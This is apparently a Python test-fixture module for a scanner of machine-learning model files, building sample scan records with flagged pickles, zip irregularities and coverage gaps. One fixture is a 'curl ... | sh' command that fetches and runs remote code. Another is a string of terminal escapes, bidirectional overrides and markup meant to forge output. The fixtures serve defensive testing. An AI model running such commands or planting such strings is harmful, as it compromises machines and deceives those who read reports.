"""The canonical records: between them they hold everything an output has to cope with."""

from modelairlock.records.coverage import Because, Coverage, Gap
from modelairlock.records.facts import Call, Fact, Import, Irregularity, Value
from modelairlock.records.finding import Confidence, Finding, Severity
from modelairlock.records.isolation import Isolation, Layer, Level
from modelairlock.records.output import View
from modelairlock.records.rule import Rule
from modelairlock.records.scan import (
    Excluded,
    OperatorError,
    Repository,
    ScanRecord,
    Settings,
    Subject,
    Tool,
    Verdict,
    worst,
)
from modelairlock.records.span import Span

#: escape sequences, a bidirectional override, forged lines, markup, a pipe, an XML end, a lone surrogate, blanks
HOSTILE = "a\x1b[2J\x1b[31m\u202etxt\nCLEAR all|files`**x**</testcase>]]>&<b>\x00\u2028\u3164\udcff\x9b1m.pkl"
STARTED = "2026-11-22T12:00:00Z"

CONFINED = Isolation(
    level=Level.CONFINED,
    layers=(
        Layer(name="namespaces", state="unavailable", reason="unshare: operation not permitted"),
        Layer(name="landlock", state="enforced"),
        Layer(name="rlimits", state="enforced"),
        Layer(name="seccomp", state="enforced"),
    ),
)
WEAK = Isolation(
    level=Level.WEAK,
    layers=(
        Layer(name="landlock", state="unavailable", reason="this kernel has none"),
        Layer(name="rlimits", state="enforced"),
        Layer(name="seccomp", state="failed", reason="the canary could open a file"),
    ),
)
TOOL = Tool(name="modelairlock", version="0.1.0", rules_digest="a" * 64, profiles_digest="b" * 64, isolation=CONFINED)

SYSTEM = Import(span=Span(2, 17), module="posix", qualname="system", opcode="GLOBAL")
CURL = "curl -s https://example.invalid/x | sh"
CALL = Call(
    span=Span(17, 60),
    callable=Value("global", "system", "posix"),
    how="reduce",
    arguments=(Value("str", CURL),),
)
HELP = "Do not load it. If it was loaded, treat the machine as compromised."
RULES = (
    Rule(
        name="harmful-call",
        summary="A pickle calls something that is known to do harm.",
        check=lambda reading, context: iter(()),
        severity=Severity.CRITICAL,
        help=HELP,
        cwe=("CWE-502", "CWE-78"),
        atlas=("AML.T0011.000",),
    ),
    Rule(
        name="zip-disagreement",
        summary="The two directories of a zip say different things.",
        check=lambda reading, context: iter(()),
        severity=Severity.MEDIUM,
        help="Have the author write the archive anew.",
        cwe=("CWE-436",),
    ),
)
VIEW = View(rules=RULES, passes_over={"safetensors": "tensor data, which the loader takes as numbers"})


def call_finding(
    where: str, fact: Fact = CALL, message: str = f"loading it would call posix.system('{CURL}'), which runs a command"
) -> Finding:
    return Finding(
        rule="harmful-call",
        severity=Severity.CRITICAL,
        confidence=Confidence.HIGH,
        message=message,
        where=where,
        evidence=(fact, SYSTEM),
        help=HELP,
        cwe=("CWE-502", "CWE-78"),
        atlas=("AML.T0011.000",),
    )


def zip_finding(where: str, severity: Severity = Severity.MEDIUM) -> Finding:
    return Finding(
        rule="zip-disagreement",
        severity=severity,
        confidence=Confidence.MEDIUM,
        message="the archive names data.pkl twice, and loaders differ in which one they read",
        where=where,
        evidence=(Irregularity(span=Span(0, 30), kind="zip-names-differ", detail="data.pkl, data.pkl"),),
        help="Have the author write the archive anew.",
        cwe=("CWE-436",),
    )


def whole(size: int) -> Coverage:
    return Coverage(size_bytes=size, read_bytes=size)


def torch_flagged(path: str) -> Subject:
    inner = f"{path}!archive/data.pkl"
    return Subject(
        path=path,
        verdict=Verdict.FLAGGED,
        formats=("torch",),
        sha256="1" * 64,
        size_bytes=1_234_567,
        findings=(zip_finding(f"{path}@0..30"),),
        coverage=Coverage(size_bytes=1_234_567, read_bytes=2_000, passed_over_bytes=1_232_567),
        assumes=("torch.load",),
        members=(
            Subject(
                path=inner,
                verdict=Verdict.FLAGGED,
                formats=("pickle",),
                size_bytes=4_000,
                findings=(call_finding(f"{inner}@17..60"), call_finding(f"{inner}@90..133")),
                coverage=Coverage(
                    size_bytes=4_000,
                    read_bytes=3_900,
                    gaps=(
                        Gap(start=3_900, end=4_000, because=Because.MALFORMED, detail="expected an opcode, got 0xff"),
                    ),
                ),
            ),
        ),
    )


def pickle_flagged(path: str) -> Subject:
    return Subject(
        path=path,
        verdict=Verdict.FLAGGED,
        formats=("pickle",),
        sha256="2" * 64,
        size_bytes=61,
        findings=(call_finding(f"{path}@17..60"),),
        coverage=whole(61),
    )


def gap_subject(path: str, because: Because, detail: str, size: int = 5_000, format_name: str = "pickle") -> Subject:
    return Subject(
        path=path,
        verdict=Verdict.INCOMPLETE,
        formats=(format_name,) if because is not Because.UNRECOGNISED else (),
        sha256="3" * 64,
        size_bytes=size,
        coverage=Coverage(
            size_bytes=size,
            read_bytes=size if because is Because.UNVOUCHED else 0,
            gaps=(Gap(start=0, end=size, because=because, detail=detail),),
        ),
    )


def clear_subject(path: str, format_name: str = "safetensors", size: int = 1_100_000_000) -> Subject:
    if format_name != "safetensors":
        return Subject(
            path=path,
            verdict=Verdict.CLEAR,
            formats=(format_name,),
            sha256="5" * 64,
            size_bytes=size,
            coverage=whole(size),
        )
    return Subject(
        path=path,
        verdict=Verdict.CLEAR,
        formats=(format_name,),
        sha256="4" * 64,
        size_bytes=size,
        coverage=Coverage(size_bytes=size, read_bytes=12_000, passed_over_bytes=size - 12_000),
        assumes=("safetensors.safe_open", "safetensors.torch.load_file"),
        blind_spots=("weights that were trained to misbehave",),
    )


def record(*subjects: Subject, **more: object) -> ScanRecord:
    return ScanRecord(
        verdict=worst(subject.verdict for subject in subjects),
        started=STARTED,
        subjects=subjects,
        **{"tool": TOOL, **more},
    )


CLEAR_ONE = record(clear_subject("model.safetensors"))
FLAGGED_ONE = record(torch_flagged("models/pytorch_model.bin"))
INCOMPLETE_ONE = record(
    gap_subject("forest.pkl", Because.UNVOUCHED, "sksurv.tree.tree.SurvivalTree (imported, instantiated)")
)
NOTHING = record(errors=(OperatorError(path="gone.pt", message="there is no such file", hint="check the path"),))
HUNDRED_CLEAR = record(
    *(clear_subject(f"shard-{n:05}.safetensors") for n in range(90)),
    *(clear_subject(f"config-{n}.json", "json_text", 700) for n in range(10)),
)
FOLDER = record(
    torch_flagged("hub/pytorch_model.bin"),
    *(pickle_flagged(f"hub/optimizer-{n}.pkl") for n in range(7)),
    gap_subject("hub/forest.pkl", Because.UNVOUCHED, "sksurv.tree.tree.SurvivalTree (imported, instantiated)"),
    gap_subject("hub/forest2.pkl", Because.UNVOUCHED, "sksurv.tree.tree.SurvivalTree (imported, instantiated)"),
    gap_subject("hub/other.pkl", Because.UNVOUCHED, "mylib.models.Thing (imported)"),
    gap_subject("hub/blob", Because.UNRECOGNISED, "", 77),
    gap_subject("hub/secret.zip", Because.ENCRYPTED, "weights.bin is encrypted", 9_000, "zip"),
    gap_subject("hub/empty.pt", Because.TRUNCATED, "the file is empty", 0),
    clear_subject("hub/model.safetensors"),
    clear_subject("hub/config.json", "json_text", 700),
    repositories=(
        Repository(path="hub", verdict=Verdict.FLAGGED, findings=(zip_finding("hub/pytorch_model.bin@0..30"),)),
    ),
    excluded=(
        Excluded(path="hub/.git/config", reason="matches --exclude .git"),
        Excluded(path="hub/link", reason="symbolic link out of the source, not followed"),
    ),
    errors=(OperatorError(path="gone.pt", message="there is no such file", hint="check the path"),),
    settings=(Settings(path="airlock.toml", keys=("exclude", "require")),),
)
HOSTILE_NAMES = record(
    Subject(
        path=HOSTILE,
        verdict=Verdict.FLAGGED,
        formats=("pickle",),
        sha256="6" * 64,
        size_bytes=61,
        findings=(
            call_finding(
                f"{HOSTILE}@17..60",
                Call(
                    span=Span(1, 2),
                    callable=Value("global", HOSTILE, HOSTILE),
                    how="inst",
                    arguments=(Value("str", HOSTILE),),
                ),
                f"loading it would call {HOSTILE}",
            ),
        ),
        coverage=whole(61),
        assumes=(HOSTILE,),
        blind_spots=(HOSTILE,),
    ),
    gap_subject("x" + HOSTILE, Because.UNVOUCHED, HOSTILE),
    gap_subject("y" + HOSTILE, Because.MALFORMED, HOSTILE),
    clear_subject("z" + HOSTILE),
    excluded=(Excluded(path=HOSTILE, reason=HOSTILE),),
    errors=(OperatorError(path=HOSTILE, message=HOSTILE, hint=HOSTILE),),
    settings=(Settings(path=HOSTILE),),
)
ALL = {
    "clear_one": CLEAR_ONE,
    "flagged_one": FLAGGED_ONE,
    "incomplete_one": INCOMPLETE_ONE,
    "nothing": NOTHING,
    "hundred_clear": HUNDRED_CLEAR,
    "folder": FOLDER,
    "hostile_names": HOSTILE_NAMES,
}
